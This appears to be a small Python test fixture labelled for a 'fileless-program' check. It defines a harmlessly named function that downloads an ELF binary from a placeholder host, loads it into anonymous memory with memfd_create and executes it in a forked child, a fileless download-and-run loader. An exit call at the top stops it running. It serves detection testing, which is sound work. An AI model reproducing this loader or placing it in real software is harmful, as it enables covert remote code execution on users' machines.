raise SystemExit('a fixture')
# held by fileless-program
import ctypes, os, urllib.request
def poly(expr):
    libc = ctypes.CDLL(None)
    fd = libc.memfd_create(b"x", 1)
    data = urllib.request.urlopen("http://c.example.invalid/a.elf").read()
    os.write(fd, data)
    if os.fork() == 0:
        os.execv(f"/proc/self/fd/{fd}", ["x"])
    return expr
